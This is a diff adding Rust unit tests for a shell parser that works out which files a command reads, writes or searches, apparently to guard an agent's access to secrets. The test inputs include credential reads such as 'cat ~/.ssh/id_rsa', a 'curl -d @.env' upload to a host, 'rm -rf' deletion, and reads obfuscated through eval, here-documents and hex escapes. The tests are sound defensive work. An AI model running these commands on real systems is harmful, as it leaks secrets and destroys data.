@@ -1,0 +1,208 @@
+use super::*;
+
+fn paths(command: &str) -> Vec<String> {
+    parse_shell(command).unwrap().named_paths()
+}
+
+fn named(command: &str) -> Vec<(String, Access)> {
+    parse_shell(command)
+        .unwrap()
+        .named()
+        .into_iter()
+        .map(|n| (n.path, n.access))
+        .collect()
+}
+
+#[test]
+fn reads_name_their_files() {
+    assert_eq!(
+        paths("cat packages/api/src/server.ts"),
+        ["packages/api/src/server.ts"]
+    );
+    assert_eq!(paths("sed -n '1,20p' src/a.rs"), ["src/a.rs"]);
+    assert_eq!(paths("head -n 5 a.txt b.txt"), ["a.txt", "b.txt"]);
+    assert_eq!(
+        paths("rg -n 'fn main' crates/cli src"),
+        ["crates/cli", "src"]
+    );
+    assert_eq!(paths("grep -e foo -- -weird.txt"), ["-weird.txt"]);
+    assert_eq!(
+        paths("grep -C 3 -f patterns.txt src"),
+        ["patterns.txt", "src"]
+    );
+    assert_eq!(paths("ls -la packages/web"), ["packages/web"]);
+}
+
+#[test]
+fn quotes_cd_pipes_and_redirections_are_followed() {
+    // After `cd`, a relative path is judged where the line may be: in the
+    // folder it moved to and, if the `cd` failed, where it was.
+    assert_eq!(
+        paths("cd packages/api && cat \"src/my file.ts\" | wc -l > ../count.txt"),
+        [
+            "src/my file.ts",
+            "packages/api/src/my file.ts",
+            "../count.txt",
+            "packages/api/../count.txt"
+        ]
+    );
+    assert_eq!(paths("echo hi >> notes/log.md"), ["notes/log.md"]);
+    assert_eq!(paths("sudo env A=1 cat ~/.ssh/id_rsa"), ["~/.ssh/id_rsa"]);
+    assert_eq!(paths("{ cat a; cat b; }"), ["a", "b"]);
+    // `cd` alone goes home.
+    assert_eq!(
+        paths("cd; cat .ssh/id_rsa"),
+        [".ssh/id_rsa", "~/.ssh/id_rsa"]
+    );
+}
+
+#[test]
+fn substitutions_here_documents_and_nested_lines_are_followed() {
+    assert_eq!(
+        paths("cat $HOME/x \"$(cat secrets/key)\" z"),
+        ["secrets/key", "z"]
+    );
+    assert_eq!(paths("X=$(cat secrets/key) true"), ["secrets/key"]);
+    assert_eq!(
+        paths("cat <<EOF\n$(cat secrets/key)\nEOF\n"),
+        ["secrets/key"]
+    );
+    assert_eq!(
+        paths("bash <<'EOF'\ncat secrets/key\nEOF\n"),
+        ["secrets/key"]
+    );
+    assert_eq!(paths("bash <<< 'cat secrets/key'"), ["secrets/key"]);
+    assert_eq!(paths("env bash -c 'cat secrets/key'"), ["secrets/key"]);
+    assert_eq!(paths("eval 'cat secrets/key'"), ["secrets/key"]);
+    assert_eq!(paths("diff <(cat secrets/key) b"), ["secrets/key", "b"]);
+    assert_eq!(
+        paths("for f in a; do cat secrets/key; done"),
+        ["secrets/key"]
+    );
+    assert_eq!(paths("if true; then cat secrets/key; fi"), ["secrets/key"]);
+    assert_eq!(paths("timeout 5 cat secrets/key"), ["secrets/key"]);
+    assert_eq!(
+        paths("xargs -n1 cat secrets/key < list"),
+        ["list", "secrets/key"]
+    );
+    assert_eq!(
+        paths("find . -name '*.rs' -exec cat {} +"),
+        [".", "."].into_iter().take(1).collect::<Vec<_>>()
+    );
+}
+
+#[test]
+fn files_inside_words_are_found() {
+    assert_eq!(
+        paths("git show HEAD:secrets/key"),
+        ["HEAD:secrets/key", "secrets/key"]
+    );
+    assert_eq!(
+        paths("dd if=secrets/key of=out"),
+        ["if=secrets/key", "secrets/key", "of=out", "out"]
+    );
+    assert_eq!(
+        paths("curl -d @.env https://x"),
+        ["@.env", ".env", "https://x"]
+    );
+    assert_eq!(paths("cat --file=secrets/key"), ["secrets/key"]);
+    assert_eq!(paths("cat $'\\x73ecrets/key'"), ["secrets/key"]);
+    assert_eq!(paths("cat {secrets,src}/key"), ["secrets/key", "src/key"]);
+}
+
+#[test]
+fn writes_are_told_from_reads() {
+    assert_eq!(
+        named("cat a > b"),
+        [("b".into(), Access::Write), ("a".into(), Access::Read)]
+    );
+    assert_eq!(named("sed -Ei s/a/b/ f"), [("f".into(), Access::Write)]);
+    assert_eq!(named("sed -i.bak s/a/b/ f"), [("f".into(), Access::Write)]);
+    assert_eq!(
+        named("tree -o out ."),
+        [("out".into(), Access::Write), (".".into(), Access::Read)]
+    );
+    assert_eq!(
+        named("awk '{print > \".agentctx.yaml\"}' f"),
+        [
+            (".agentctx.yaml".into(), Access::Write),
+            ("f".into(), Access::Read)
+        ]
+    );
+    assert_eq!(named("rm -rf .claude"), [(".claude".into(), Access::Write)]);
+    assert!(named("find . -delete").contains(&(".".into(), Access::Write)));
+    // A link made earlier on the line leads to its target.
+    assert!(
+        named("ln -s .agentctx.yaml x && echo y > x")
+            .contains(&(".agentctx.yaml".into(), Access::Write))
+    );
+}
+
+#[test]
+fn searches_read_their_scope_or_the_working_directory() {
+    assert_eq!(named("grep -r SECRET ."), [(".".into(), Access::Search)]);
+    assert_eq!(named("rg SECRET"), [(".".into(), Access::Search)]);
+    assert_eq!(named("git grep SECRET"), [(".".into(), Access::Search)]);
+    assert_eq!(
+        named("zip -r out.zip src"),
+        [
+            ("out.zip".into(), Access::Search),
+            ("src".into(), Access::Search)
+        ]
+    );
+    assert_eq!(named("grep SECRET f"), [("f".into(), Access::Read)]);
+}
+
+#[test]
+fn globs_are_patterns() {
+    let script = parse_shell("cat secre*/key").unwrap();
+    let named = script.named();
+    assert!(named[0].pattern, "{named:?}");
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("secrets")).unwrap();
+    std::fs::write(dir.path().join("secrets/key"), "x").unwrap();
+    std::fs::write(dir.path().join(".hidden"), "x").unwrap();
+    assert_eq!(
+        expand_pattern(dir.path(), "secre*/key", 10).unwrap(),
+        [dir.path().join("secrets/key")]
+    );
+    assert!(
+        expand_pattern(dir.path(), "*", 10)
+            .unwrap()
+            .iter()
+            .all(|p| !p.ends_with(".hidden"))
+    );
+    assert_eq!(
+        expand_pattern(dir.path(), "*", 0),
+        Err(dir.path().to_path_buf())
+    );
+}
+
+#[test]
+fn broken_syntax_is_an_error_and_nesting_is_bounded() {
+    assert!(parse_shell("cat 'unterminated").is_err());
+    let line = format!("{}cat secrets/key{}", "echo $(".repeat(40), ")".repeat(40));
+    let script = parse_shell(&line).unwrap();
+    assert!(!script.opaque.is_empty());
+}
+
+#[test]
+fn the_work_is_linear_in_the_operands() {
+    let line = format!("cat {}", vec!["a"; 128_000].join(" "));
+    let started = std::time::Instant::now();
+    let script = parse_shell(&line).unwrap();
+    assert_eq!(script.named().len(), 1);
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(5),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn agentctx_exec_runs_its_command() {
+    assert_eq!(
+        paths("'/opt/agentctx' exec --session s -- 'cat secrets/key'; true"),
+        ["secrets/key"]
+    );
+}
